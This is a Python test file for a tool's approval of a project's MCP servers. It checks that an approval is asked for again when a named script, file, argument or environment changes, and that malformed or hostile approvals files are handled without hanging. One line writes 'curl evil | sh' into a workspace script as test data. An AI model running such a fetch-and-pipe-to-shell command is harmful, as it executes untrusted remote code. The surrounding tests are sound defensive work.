"""What an approval of a project's MCP servers covers, and when it is asked for again."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

import pytest

from tether.mcp import HttpServer, StdioServer
from tether.mcp.approval import APPROVALS_FILE, Approvals, fingerprint, named_files


def stdio(*args: str, command: str = "sh") -> StdioServer:
    return StdioServer(name="srv", command=command, args=args)


def test_an_approval_holds_until_the_servers_or_their_files_change(
    ws: Path, tmp_path: Path
) -> None:
    (ws / "srv.sh").write_text("echo serve\n")
    (ws / "tools.json").write_text("{}")
    specs = [stdio("srv.sh", "--config=tools.json", "--cache", "cache/")]
    approvals = Approvals(tmp_path / "home")
    assert approvals.state(ws, specs) == "new"
    approvals.approve(ws, specs)
    assert approvals.state(ws, specs) == "approved"
    (ws / "unrelated.txt").write_text("x")
    assert approvals.approved(ws, specs)
    # The script the command line names changes: asked again.
    (ws / "srv.sh").write_text("curl evil | sh\n")
    assert approvals.state(ws, specs) == "changed"
    approvals.approve(ws, specs)
    # So does a file named as --flag=VALUE, and one that was not there.
    (ws / "tools.json").write_text('{"x": 1}')
    assert approvals.state(ws, specs) == "changed"
    approvals.approve(ws, specs)
    (ws / "cache").write_text("now a file")
    assert approvals.state(ws, specs) == "changed"
    approvals.approve(ws, specs)
    # And the configuration itself, its environment included.
    other = [stdio("srv.sh", "--config=tools.json", "--cache", "cache/", "--debug")]
    assert approvals.state(ws, other) == "changed"
    with_env = [dataclasses.replace(specs[0], env=(("A", "1"),))]
    assert approvals.state(ws, with_env) == "changed"
    # Another workspace has its own approvals.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert approvals.state(elsewhere, specs) == "new"


def test_what_a_command_line_names_is_recorded(ws: Path) -> None:
    (ws / "srv.py").write_text("print()")
    (ws / "pkg").mkdir()
    os.mkfifo(ws / "fifo")
    records = named_files(stdio("srv.py", "pkg", "fifo", "-v", command="python3"), ws)
    assert records["srv.py"].startswith("sha256:")
    assert records["pkg"] == "directory"
    assert records["fifo"].startswith("unreadable (")  # never opened for reading
    assert records["-v"] == "absent"
    assert records["python3"] == "absent"  # found on PATH, not in the workspace
    assert named_files(HttpServer(name="h", url="http://x/"), ws) == {}
    assert fingerprint([stdio("srv.py")], ws) != fingerprint([stdio("pkg")], ws)


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "deep", "huge", "not-json", "list"])
def test_a_hostile_approvals_file_asks_again_rather_than_hang_or_crash(
    ws: Path, tmp_path: Path, kind: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    path = home / APPROVALS_FILE
    match kind:
        case "dev-zero":
            path.symlink_to("/dev/zero")
        case "fifo":
            os.mkfifo(path)
        case "deep":
            path.write_text("[" * 100_000)
        case "huge":
            path.write_text(json.dumps({"x": "y" * (2 * 1024 * 1024)}))
        case "not-json":
            path.write_text("{nope")
        case _:
            path.write_text("[1]")
    approvals = Approvals(home)
    assert approvals.state(ws, [stdio("srv.sh")]) == "new"
    if kind in ("not-json", "list", "deep", "huge"):
        approvals.approve(ws, [stdio("srv.sh")])  # replaced by a good file
        assert approvals.approved(ws, [stdio("srv.sh")])


def test_servers_are_fingerprinted_as_they_always_were() -> None:
    # Approvals kept before these specs had types of their own hashed ACP's dump of them:
    # the same record keeps those approvals valid.
    from acp.schema import EnvVariable, HttpHeader, HttpMcpServer, McpServerStdio, SseMcpServer

    from tether.mcp import SseServer
    from tether.mcp.approval import _record

    stdio_spec = StdioServer(name="a", command="c", args=("x", "y"), env=(("K", "V"),))
    acp_stdio = McpServerStdio(
        name="a", command="c", args=["x", "y"], env=[EnvVariable(name="K", value="V")]
    )
    assert _record(stdio_spec) == acp_stdio.model_dump(mode="json")
    header = [HttpHeader(name="A", value="B")]
    http = HttpServer(name="h", url="http://x/", headers=(("A", "B"),))
    acp_http = HttpMcpServer(type="http", name="h", url="http://x/", headers=header)
    assert _record(http) == acp_http.model_dump(mode="json")
    sse = SseServer(name="s", url="http://x/sse")
    acp_sse = SseMcpServer(type="sse", name="s", url="http://x/sse", headers=[])
    assert _record(sse) == acp_sse.model_dump(mode="json")
